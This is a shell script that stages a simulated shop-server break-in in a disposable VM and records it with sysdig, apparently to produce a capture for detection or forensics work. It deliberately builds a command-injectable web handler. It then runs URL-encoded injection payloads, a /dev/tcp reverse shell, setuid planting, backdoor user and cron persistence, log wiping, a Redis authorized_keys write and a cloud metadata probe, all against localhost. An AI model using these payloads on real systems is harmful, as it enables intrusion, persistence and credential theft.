#!/bin/bash
# SPDX-License-Identifier: Apache-2.0
#
# The scene of break-in.scap.gz: a shop server with a page that pastes its query into a shell, and what a visitor makes of
# it. For a throw-away virtual machine without network ONLY: it changes accounts, logs and system folders.
#
#   scene.sh FOLDER     FOLDER holds scap.ko (the sysdig module) and base.tar (a root file system for the container);
#                       the capture is written there as demo.scap
# Needs: nginx, redis, python3, podman with crun, curl, netcat-openbsd, sysdig.
set -u
export PATH=/usr/local/sbin:/usr/local/bin:/usr/sbin:/usr/bin:/sbin:/bin HOME=/root LANG=C.UTF-8 TERM=dumb
insmod "$1/scap.ko" || exit 1
[ -e /dev/fd ] || ln -s /proc/self/fd /dev/fd
mkdir -p /run/cap; mount -t tmpfs -o size=1500m cap /run/cap
mkdir -p /srv/shop /root/.ssh /var/lib/containers /run/redis; chmod 700 /root/.ssh
echo 'ls' > /root/.bash_history; echo "not a real key" > /root/.ssh/id_ed25519; chmod 600 /root/.ssh/id_ed25519
cat > /srv/shop/php-fpm <<'P'
#!/usr/bin/python3
# a shop page that pastes its query string into a shell command
import os, socket
s = socket.socket(); s.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1); s.bind(("127.0.0.1", 8000)); s.listen(8)
while True:
    c, _ = s.accept()
    line = c.recv(4096).split(b"\r\n")[0].split(b" ")[1]
    q = bytearray(); i = 0
    query = line.split(b"item=")[-1]
    while i < len(query):
        if query[i:i+1] == b"%": q.append(int(query[i+1:i+3], 16)); i += 3
        else: q.append(query[i]); i += 1
    out = os.popen("echo item " + q.decode() + " 2>&1").read() if b"item=" in line else "shop\n"
    c.sendall(b"HTTP/1.0 200 OK\r\nContent-Length: %d\r\n\r\n" % len(out) + out.encode()); c.close()
P
chmod 755 /srv/shop/php-fpm
cat > /etc/nginx/sites-enabled/default <<'N'
server { listen 127.0.0.1:80; access_log /var/log/nginx/shop.log; location / { proxy_pass http://127.0.0.1:8000; } }
N
sed -i 's/^worker_processes.*/worker_processes 1;/; /modules-enabled/d' /etc/nginx/nginx.conf
rm -rf /var/lib/redis/*; mkdir -p /var/lib/redis; chown redis /var/lib/redis
nginx & /srv/shop/php-fpm >/run/shop.out 2>&1 &
redis-server --bind 127.0.0.1 --port 6379 --dir /var/lib/redis --daemonize yes --io-threads 1 --protected-mode no --enable-protected-configs yes >/dev/null
mkdir -p /etc/containers; printf '[engine]\ncgroup_manager="cgroupfs"\nevents_logger="file"\n[containers]\nlog_driver="k8s-file"\n' > /etc/containers/containers.conf
printf '[storage]\ndriver="vfs"\nrunroot="/run/containers/storage"\ngraphroot="/var/lib/containers/storage"\n' > /etc/containers/storage.conf
podman import "$1/base.tar" docker.io/demo/till:1.4 2>&1 | tail -1
podman create --name till --network none -t docker.io/demo/till:1.4 /bin/bash -c 'sleep 600' 2>&1 | tail -1
podman start till; podman ps
hit() { curl -s "http://127.0.0.1/?item=$1"; }
hit 1
act() { echo "== $*"; }
work() {
  act "an ordinary customer"; for i in 1 2 3; do hit $i; done
  act "break-in"; hit '1;id'; hit '1;cat%20/etc/shadow|wc%20-l'
  act "a tool dropped"; hit '1;cp%20/usr/bin/id%20/tmp/.cache-helper;chmod%204755%20/tmp/.cache-helper;/tmp/.cache-helper'
  act "a reverse shell"; nc -l 127.0.0.1 4444 >/dev/null < <(sleep 0.5; echo 'cat /root/.ssh/id_ed25519 | wc -c'; echo 'useradd -m -s /bin/bash backup2'; echo 'echo "* * * * * root true" > /etc/cron.d/backup2'; echo 'cp /tmp/.cache-helper /usr/bin/cache-helper'; echo 'echo "127.0.0.1 deb.example" >> /etc/apt/sources.list'; echo 'rm -f /var/log/nginx/shop.log /root/.bash_history'; echo exit; sleep 1) & sleep 0.3
  hit "1;bash%20-c%20'exec%20bash%20%3E%26%20/dev/tcp/127.0.0.1/4444%200%3E%261'"
  act "the cache writes a key"; redis-cli -p 6379 config set dir /root/.ssh; redis-cli -p 6379 config set dbfilename authorized_keys; redis-cli -p 6379 set k v; redis-cli -p 6379 save; cat /root/.ssh/authorized_keys | wc -c
  cat /var/lib/redis/dump.rdb 2>/dev/null | wc -c
  act "a package in the container"; podman exec till dpkg --version | head -1
  act "a terminal in the container"; podman exec -t till bash -c 'id; ls /root'
  act "a kernel module"; modprobe dummy; rmmod dummy
  act "cloud credentials"; curl -s -m 1 http://169.254.169.254/latest/meta-data/ ; ip route add 169.254.0.0/16 dev lo; curl -s -m 1 http://169.254.169.254/latest/meta-data/
  act "an admin at work"; ls /etc >/dev/null; su -s /bin/sh nobody -c 'id'; userdel -r backup2; date
}
sysdig -v -s 80 -w /run/cap/demo.scap 'not evt.type in (futex, clock_gettime, gettimeofday, switch, nanosleep, clock_nanosleep, epoll_pwait)' >/run/cap/stat 2>&1 & pid=$!
for i in $(seq 200); do [ -s /run/cap/demo.scap ] && break; sleep 0.1; done; sleep 1
( work ) </dev/null 2>&1
sleep 0.5; kill -INT $pid; wait $pid; tail -5 /run/cap/stat
cp /run/cap/demo.scap "$1/"
